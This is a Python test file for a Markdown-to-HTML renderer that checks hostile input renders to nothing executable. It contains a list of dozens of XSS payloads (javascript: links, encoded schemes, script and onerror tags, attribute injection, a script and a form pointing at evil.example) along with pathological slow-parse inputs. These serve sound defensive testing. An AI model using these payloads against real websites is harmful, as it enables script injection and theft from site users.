"""render_markdown: hostile input yields nothing executable; normal Markdown works.

Every hostile case is parsed with an HTML parser (``html.parser``), never
checked with a regex: the parser sees what a browser would.
"""

from __future__ import annotations

import random
import time
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

import markdown as md
import pytest
from markdown.extensions.tables import TableExtension
from markupsafe import Markup

from app.practices.services import MAX_SECTION_LENGTH
from app.text import render_markdown
from app.text.markdown import MAX_INPUT_LENGTH, clean_html
from app.text.md_limits import LimitsExtension
from app.text.urls import safe_url

# The safelist, written out again on purpose: widening the one in
# app/text/markdown.py must fail here until someone looks.
SAFE_TAGS = {
    "a", "p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "code",
    "pre", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr",
    "th", "td",
}  # fmt: skip
SAFE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"}}
REL = "nofollow noopener noreferrer ugc"


@dataclass
class Page:
    """What an HTML parser saw in one rendered fragment."""

    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: str = ""
    comments: list[str] = field(default_factory=list)
    declarations: list[str] = field(default_factory=list)

    def links(self) -> list[dict[str, str | None]]:
        return [attrs for tag, attrs in self.tags if tag == "a"]

    def hrefs(self) -> list[str]:
        return [a["href"] or "" for a in self.links() if "href" in a]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = Page()

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.page.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list) -> None:
        self.page.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.page.text += data

    def handle_comment(self, data: str) -> None:
        self.page.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.page.declarations.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.page.declarations.append(data)

    def handle_pi(self, data: str) -> None:
        self.page.declarations.append(data)


def parse(html: str) -> Page:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.page


def assert_harmless(html: str) -> Page:
    """The rules of docs/security.md, checked on parsed HTML."""
    page = parse(html)
    assert not page.comments and not page.declarations
    for tag, attrs in page.tags:
        assert tag in SAFE_TAGS, f"<{tag}> is not on the safelist"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name}={value!r}"
            assert name != "style"
            assert name in SAFE_ATTRIBUTES.get(tag, set()), f"<{tag} {name}>"
        if tag == "a":
            assert attrs.get("rel") == REL
            if "href" in attrs:
                assert_allowed_url(attrs["href"] or "")
    return page


def assert_allowed_url(href: str) -> None:
    """http/https with a host, or mailto; no invisible characters anywhere."""
    url = href.strip()
    assert url == href, f"whitespace around {href!r}"
    for ch in url:
        assert unicodedata.category(ch)[0] not in "CZ", f"invisible char in {href!r}"
    parts = urlsplit(url)
    assert parts.scheme.lower() in {"http", "https", "mailto"}, href
    if parts.scheme.lower() != "mailto":
        assert parts.netloc and url.lower().startswith(parts.scheme.lower() + "://")


HOSTILE = [
    # javascript:, vbscript:, data: in every Markdown link form
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[r]\n\n[r]: javascript:alert(1) "title"',
    "[x][r]\n\n[r]: <vbscript:msgbox(1)>",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "<vbscript://x.com/%0amsgbox(1)>",
    # encoded and disguised schemes
    "[x](jav&#x61;script:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](jav&amp;#x61;script:alert(1))",
    "[x]\n\n[x]: jav&#x09;ascript:alert(1)",
    # raw HTML of all sorts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="http://evil.example"><input name=x><button>Kirim</button></form>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0">tampilan palsu</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="http://ok.example" onclick="alert(1)">x</a>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<base href="http://evil.example/"><link rel=stylesheet href=//evil.example>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # markdown inside HTML
    "<div>\n*penting* [x](javascript:alert(1))\n</div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    # attribute injection through titles and targets
    '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](http://a.example 'x\\' onmouseover=alert(1) ')",
    '[x](http://a.example" onmouseover="alert(1))',
    '[x](http://a.example/"><script>alert(1)</script>)',
    '<http://a.example/"onmouseover="alert(1)>',
    'http://a.example/"><script>alert(1)</script>',
    # images with handlers, images as trackers
    '![x](x" onerror="alert(1))',
    "![x](javascript:alert(1))",
    '![x](http://evil.example/t.png "t\\" onload=\\"alert(1)")',
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x][i]\n\n[i]: javascript:alert(1)",
    # < tricks
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "< script>alert(1)</script >",
    "<img/src=x/onerror=alert(1)>",
    "a <b onmouseover=alert(1)>tebal</b> c",
    # unicode tricks and protocol-relative links
    "[x](https://example.com/\u202egnp.exe)",
    "[x](https://paypa\u200bl.example)",
    "[x](https://exa\u00admple.com)",
    "https://exa\u00admple.com",
    "[x](https://example.com/\u2066x\u2069)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](http:\\\\evil.example)",
    "[x](https:///evil.example)",
    # nested and doubled links
    "[[x](javascript:alert(1))](javascript:alert(2))",
    "[**a** ![b](javascript:alert(1))](vbscript:x)",
    # in tables and code
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|-|-|\n| a | b |",
    "`<script>alert(1)</script>` and\n\n    <img src=x onerror=alert(1)>",
    "```\n<script>alert(1)</script>\n```",
]


def test_there_are_at_least_forty_hostile_inputs() -> None:
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_to_nothing_executable(text: str) -> None:
    html = render_markdown(text)
    page = assert_harmless(str(html))
    assert not any(tag in {"script", "style", "img", "svg"} for tag, _ in page.tags)


@pytest.mark.parametrize("text", HOSTILE)
def test_nh3_alone_makes_hostile_html_harmless(text: str) -> None:
    # Stock Python-Markdown passes raw HTML and any link through; the final
    # sanitizer must hold even if the Markdown stage gets it wrong.
    assert_harmless(clean_html(md.markdown(text)))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        "<b>tebal</b>",
        "<!-- komentar -->",
    ],
)
def test_raw_html_is_shown_as_text_not_dropped(text: str) -> None:
    page = assert_harmless(str(render_markdown(text)))
    assert text in page.text
    assert [tag for tag, _ in page.tags] == ["p"]


def test_refused_link_keeps_its_text() -> None:
    page = parse(str(render_markdown("Lihat [panduan **ini**](javascript:alert(1)).")))
    assert page.links() == []
    assert page.text == "Lihat panduan ini."


@pytest.mark.parametrize(
    "char", ["\u200b", "\u200c", "\u200d", "\u00ad", "\u202e", "\u2066", "\ufeff"]
)
def test_invisible_character_in_a_url_drops_the_link(char: str) -> None:
    page = parse(str(render_markdown(f"[Dinas](https://dinkes{char}.example.id/)")))
    assert page.links() == []
    assert "Dinas" in page.text


def test_bare_url_with_invisible_character_is_not_linked_in_part() -> None:
    page = parse(str(render_markdown("https://exa\u00admple.com dan a.co")))
    assert page.hrefs() == ["http://a.co"]


# --- normal Markdown ------------------------------------------------------


def test_emphasis_lists_and_code() -> None:
    html = str(
        render_markdown(
            "**Tebal** dan *miring*.\n\n- satu\n- dua\n\n1. pertama\n2. kedua\n\n"
            "Kode `x < y`.\n\n```\nantrean = []\n```"
        )
    )
    assert "<strong>Tebal</strong> dan <em>miring</em>" in html
    assert "<ul>\n<li>satu</li>\n<li>dua</li>\n</ul>" in html
    assert "<ol>\n<li>pertama</li>\n<li>kedua</li>\n</ol>" in html
    assert "<code>x &lt; y</code>" in html
    assert "<pre><code>antrean = []\n</code></pre>" in html


def test_table_keeps_alignment_without_style() -> None:
    html = str(render_markdown("| Sebelum | Sesudah |\n|:--|--:|\n| 40 | 12 |"))
    assert '<th align="left">Sebelum</th>' in html
    assert '<td align="right">12</td>' in html
    assert_harmless(html)


def test_links_get_title_and_rel() -> None:
    html = str(render_markdown('[BKPSDM](https://bkpsdm.pemkomedan.go.id "Situs")'))
    assert html == (
        '<p><a href="https://bkpsdm.pemkomedan.go.id" title="Situs" '
        f'rel="{REL}">BKPSDM</a></p>'
    )


def test_reference_links_autolinks_and_mailto_work() -> None:
    page = assert_harmless(
        str(
            render_markdown(
                "[laporan][1] <https://medan.go.id/a> <humas@medan.go.id>\n\n"
                "[1]: https://medan.go.id/laporan"
            )
        )
    )
    assert page.hrefs() == [
        "https://medan.go.id/laporan",
        "https://medan.go.id/a",
        "mailto:humas@medan.go.id",
    ]


def test_bare_urls_are_linkified() -> None:
    page = assert_harmless(
        str(
            render_markdown(
                "Lihat https://medan.go.id/data?x=1&y=2 atau www.bkpsdm.example.id."
            )
        )
    )
    assert page.hrefs() == [
        "https://medan.go.id/data?x=1&y=2",
        "http://www.bkpsdm.example.id",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "`https://medan.go.id`",
        "    https://medan.go.id",
        "```\nhttps://medan.go.id\n```",
    ],
)
def test_urls_in_code_are_not_linkified(text: str) -> None:
    page = parse(str(render_markdown(text)))
    assert page.links() == []
    assert "https://medan.go.id" in page.text


def test_url_inside_an_existing_link_is_not_linked_twice() -> None:
    page = parse(str(render_markdown("[https://a.example](https://b.example)")))
    assert page.hrefs() == ["https://b.example"]


def test_emails_in_text_are_not_linkified() -> None:
    # Colleagues' addresses are personal data; <a@b> still makes a mailto link.
    assert parse(str(render_markdown("tulis ke asn@medan.go.id"))).links() == []


@pytest.mark.parametrize(
    ("text", "tag"),
    [
        ("# Judul", "h3"),
        ("## Sub", "h4"),
        ("### Bagian", "h5"),
        ("#### Kecil", "h6"),
        ("###### Terkecil", "h6"),
        ("Judul\n=====", "h3"),
        ("Sub\n---", "h4"),
    ],
)
def test_headings_are_shifted_below_the_page_headings(text: str, tag: str) -> None:
    assert [t for t, _ in parse(str(render_markdown(text))).tags] == [tag]


def test_image_becomes_a_link_with_its_alt_text() -> None:
    page = assert_harmless(
        str(render_markdown("![Grafik antrean](https://x.id/g.png)"))
    )
    assert page.hrefs() == ["https://x.id/g.png"]
    assert page.text == "Grafik antrean"


def test_image_with_a_refused_source_leaves_only_its_alt_text() -> None:
    page = parse(str(render_markdown("![Grafik](javascript:alert(1))")))
    assert page.tags == [("p", {})]
    assert page.text == "Grafik"


def test_indonesian_text_and_entities_survive() -> None:
    html = str(render_markdown("Biaya Rp 5.000 & waktu ±30 menit — «hemat» &copy;"))
    assert parse(html).text == "Biaya Rp 5.000 & waktu ±30 menit — «hemat» ©"


def test_empty_input_renders_empty_markup() -> None:
    assert render_markdown("") == Markup("")
    assert render_markdown(None) == Markup("")
    assert isinstance(render_markdown("x"), Markup)


def test_text_beyond_the_hard_limit_is_ignored() -> None:
    html = str(render_markdown("a" * MAX_INPUT_LENGTH + "EKOR"))
    assert "EKOR" not in html


# --- safe_url -------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://medan.go.id",
        "http://a.example/x?y=1#z",
        "mailto:a@b.id",
        "HTTPS://A.ID",
    ],
)
def test_safe_url_accepts_web_and_mail_links(url: str) -> None:
    assert safe_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "jav&#x61;script:alert(1)",
        "data:text/html,x",
        "ftp://a.example",
        "//evil.example",
        "/relatif",
        "https://",
        "mailto:",
        "http://a.example/\u200b",
        "http://a.example/ x",
        "https://" + "a" * 2100 + ".id",
    ],
)
def test_safe_url_refuses_everything_else(url: str) -> None:
    assert safe_url(url) is None


# --- speed ----------------------------------------------------------------

N = MAX_SECTION_LENGTH
PATHOLOGICAL = {
    "brackets": "[" * N,
    "image brackets": "![" * (N // 2),
    "nested brackets": "[" * (N // 2) + "]" * (N // 2),
    "link openers": "[a](" * (N // 4),
    "empty link openers": "[](" * (N // 3),
    "parentheses": "(" * N,
    "stars": "*" * N,
    "underscores": "_" * N,
    "mixed emphasis": "*_" * (N // 2),
    "backticks": "`" * N,
    "backtick runs": "".join("`" * i + "a" for i in range(1, 200)),
    "nested quotes": ">" * N,
    "nested quotes with spaces": "> " * (N // 2),
    "less-than": "<" * N,
    "tag openers": "<a" * (N // 2),
    "autolink openers": "<http://" * (N // 8),
    "reference definitions": "".join(f"[r{i}]: http://a.co/{i}\n" for i in range(N)),
    "reference uses": "[a][b]" * (N // 6) + "\n\n[b]: http://x.co",
    "nested lists by indent": "".join(" " * (4 * i) + "- a\n" for i in range(100)),
    "nested lists on one line": "+ " * (N // 2),
    "ordered lists on one line": "1. " * (N // 3),
    "quotes and lists": "> - " * (N // 4),
    "setext headings": "a\n=\n" * (N // 4),
    "hash headings": "# a\n" * (N // 4),
    "table": "|a|b|\n|-|-|\n" + "|x|y|\n" * (N // 6),
    "table of urls": "|a|b|\n|-|-|\n" + "|x.co|y.co|\n" * (N // 11),
    "bare urls": "a.co " * (N // 5),
    "word runs for the url pattern": "a_" * (N // 2),
    "hyphen runs": "a-" * (N // 2),
    "bangs and pipes": "!|" * (N // 2),
    "entities": "&#x6a;" * (N // 6),
    "backslashes": "\\" * N,
    "fences": "```\n" * (N // 4),
}


@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_pathological_input_at_the_section_cap_renders_within_a_second(
    name: str,
) -> None:
    text = PATHOLOGICAL[name][:N]
    timings = []
    for _ in range(2):  # the better of two runs: a busy machine is not a bug
        start = time.perf_counter()
        render_markdown(text)
        timings.append(time.perf_counter() - start)
    assert min(timings) < 1.0, f"{name}: {min(timings):.2f}s"


# --- the speed-ups change no output -----------------------------------------

_TOKENS = [
    "[", "]", "(", ")", "![", '"', "'", "a", "b c", " ", "  ", "\n", "\n\n",
    "# ", "## ", "=", "===", "-", "---", "|", ">", "> ", "*", "**", "_", "+ ",
    "1. ", "`", "http://a.co", "    ", "[x]: http://r.co\n", "[x]", "\\", "<",
    "&amp;", "```\n", "- ",
]  # fmt: skip


def _convert(text: str, *, limits: bool) -> str:
    extensions = [TableExtension(use_align_attribute=True), "fenced_code", "sane_lists"]
    converter = md.Markdown(extensions=extensions + ([LimitsExtension()] * limits))
    converter.preprocessors.deregister("html_block")
    converter.inlinePatterns.deregister("html")
    return converter.convert(text)


def test_limits_extension_gives_the_same_html_as_stock_markdown() -> None:
    rnd = random.Random(20261127)
    for _ in range(1500):
        text = "".join(rnd.choice(_TOKENS) for _ in range(rnd.randint(1, 60)))
        assert _convert(text, limits=True) == _convert(text, limits=False), text
